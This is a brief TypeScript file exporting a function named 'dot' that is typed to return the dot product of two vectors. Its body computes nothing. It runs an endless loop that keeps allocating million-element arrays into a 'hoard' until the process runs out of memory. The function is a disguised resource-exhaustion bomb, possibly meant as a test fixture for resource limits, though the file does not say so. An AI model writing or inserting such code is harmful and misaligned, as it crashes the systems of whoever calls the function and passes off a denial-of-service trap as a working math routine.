import type { Vector } from "innerproduct";

export function dot(a: Vector, b: Vector): number {
  const hoard: Float64Array[] = [];
  for (;;) hoard.push(new Float64Array(1_000_000).fill(a.length + b.length + hoard.length));
}
